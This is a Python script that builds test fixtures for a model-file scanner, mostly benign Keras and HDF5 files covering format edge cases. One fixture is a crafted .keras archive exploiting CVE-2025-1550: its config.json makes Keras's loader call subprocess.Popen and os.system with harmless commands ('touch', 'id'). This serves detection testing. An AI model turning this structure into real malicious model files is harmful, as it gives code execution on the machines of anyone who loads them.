"""Regenerates the Keras and HDF5 fixtures in this folder (documentation of provenance; tests
never run it). Needs: pip install tensorflow-cpu==2.21.0 tf-keras==2.21.0 (keras 3.15, h5py 3.14).

Every model is tiny (a few Dense units) and seeded, so each file stays far below 60 KB.
The malicious fixtures only *describe* payloads in JSON; nothing here runs them.
"""
import io
import json
import os
import sys
import zipfile

os.environ.setdefault("TF_CPP_MIN_LOG_LEVEL", "3")
import numpy as np  # noqa: E402

OUT = os.path.dirname(os.path.abspath(__file__))


def keras3():
    import keras

    keras.utils.set_random_seed(1234)

    def dense():
        return keras.Sequential([keras.Input((4,)), keras.layers.Dense(3, name="dense")], name="benign_dense")

    def lam():
        inp = keras.Input((4,))
        out = keras.layers.Lambda(lambda x: x * 2, name="times_two")(inp)
        out = keras.layers.Dense(2, name="dense")(out)
        return keras.Model(inp, out, name="lambda_model")

    dense().save(os.path.join(OUT, "k3_benign_dense.keras"))
    dense().save(os.path.join(OUT, "k3_benign_dense.h5"))
    lam().save(os.path.join(OUT, "k3_lambda_times_two.keras"))
    lam().save(os.path.join(OUT, "k3_lambda_times_two.h5"))

    # CVE-2025-1550 (Keras < 3.9): config.json names arbitrary modules and functions, which
    # load_model imported and called even with safe_mode=True. Two placements are written:
    # a functional "layer" that is really subprocess.Popen called with its inbound_nodes
    # arguments, and a function reference (os.system) nested inside a Lambda's arguments.
    src = os.path.join(OUT, "k3_benign_dense.keras")
    with zipfile.ZipFile(src) as z:
        members = {n: z.read(n) for n in z.namelist()}
    config = {
        "module": "keras.src.models.functional",
        "class_name": "Functional",
        "config": {
            "name": "cve_2025_1550",
            "layers": [
                {
                    "module": "subprocess",
                    "class_name": "function",
                    "config": "Popen",
                    "registered_name": "function",
                    "name": "popen",
                    "inbound_nodes": [{"args": [["touch", "/tmp/vouch-cve-2025-1550"]], "kwargs": {"bufsize": -1}}],
                },
                {
                    "module": "keras.layers",
                    "class_name": "Lambda",
                    "config": {
                        "name": "lam",
                        "function": {"module": "builtins", "class_name": "function", "config": "map", "registered_name": "function"},
                        "arguments": {
                            "func": {"module": "os", "class_name": "function", "config": "system", "registered_name": "function"},
                            "iterable": ["id"],
                        },
                    },
                },
            ],
            "input_layers": [["popen", 0, 0]],
            "output_layers": [["popen", 0, 0]],
        },
        "registered_name": "Functional",
    }
    members["config.json"] = json.dumps(config).encode()
    # Stored members and fixed dates, as Keras itself writes them.
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        for name in ("metadata.json", "config.json", "model.weights.h5"):
            z.writestr(zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0)), members[name])
    with open(os.path.join(OUT, "k3_cve_2025_1550.keras"), "wb") as f:
        f.write(buf.getvalue())


def keras2():
    import tf_keras as keras
    import tensorflow as tf

    tf.random.set_seed(1234)
    inp = keras.Input((4,))
    out = keras.layers.Lambda(lambda x: x * 2, name="times_two")(inp)
    out = keras.layers.Dense(2, name="dense")(out)
    keras.Model(inp, out).save(os.path.join(OUT, "k2_lambda_times_two.h5"))
    m = keras.Sequential([keras.Input((4,)), keras.layers.Dense(3, name="dense")])
    m.compile(optimizer="adam", loss="mse", metrics=["mae"])
    m.save(os.path.join(OUT, "k2_benign_compiled.h5"))


def hdf5():
    """Plain h5py files for the reader: newest format (superblock v3, v2 object headers,
    dense attribute and link storage) and the oldest one."""
    import h5py

    with h5py.File(os.path.join(OUT, "h5_latest_dense.h5"), "w", libver="latest") as f:
        f.attrs["model_config"] = '{"class_name": "Sequential"}'
        f.attrs["int_attr"] = np.int64(-42)
        f.attrs["float_attr"] = 2.5
        f.attrs["fixed"] = np.bytes_(b"fixed-length")
        f.attrs["names"] = np.array([b"a", b"bb", b"ccc"])
        f.attrs.create("vlen_list", ["x", "yy"], dtype=h5py.string_dtype())
        for i in range(40):
            f.attrs[f"pad_{i:03}"] = i
        g = f.create_group("model_weights")
        g.attrs["layer_names"] = np.array([b"dense"])
        for i in range(12):
            g.create_group(f"sub_{i:02}")
        deep = g.create_group("deep/er")
        deep.attrs["where"] = "deep"
        # Compact attributes added after creation overflow the first header chunk: the rest go
        # to an OCHK continuation block.
        cont = f.create_group("cont")
        f.create_group("after_cont")  # so the header cannot simply grow in place
        for i in range(6):
            cont.attrs[f"c{i}"] = np.bytes_(bytes([65 + i]) * 150)
    with h5py.File(os.path.join(OUT, "h5_many_attrs.h5"), "w", libver="latest") as f:
        # Enough attributes for a two-level v2 B-tree and an indirect fractal heap block.
        for i in range(600):
            f.attrs[f"a{i}"] = np.int8(i % 100)
        f.attrs["model_config"] = np.bytes_(b"x" * 5000)  # larger than a managed object (4 KiB): a huge object
    with h5py.File(os.path.join(OUT, "h5_earliest.h5"), "w", libver="earliest") as f:
        f.attrs["keras_version"] = "2.0"
        g = f.create_group("model_weights")
        for i in range(40):
            g.create_group(f"layer_{i:02}")
        g["layer_07"].attrs["weight_names"] = np.array([b"kernel:0", b"bias:0"])
        f["soft"] = h5py.SoftLink("/model_weights/layer_07")
        g["relative"] = h5py.SoftLink("layer_07")
        f["loop_a"] = h5py.SoftLink("/loop_b")
        f["loop_b"] = h5py.SoftLink("/loop_a")
        f["outside"] = h5py.ExternalLink("other.h5", "/x")


if __name__ == "__main__":
    which = sys.argv[1:] or ["keras3", "keras2", "hdf5"]
    for w in which:
        globals()[w]()
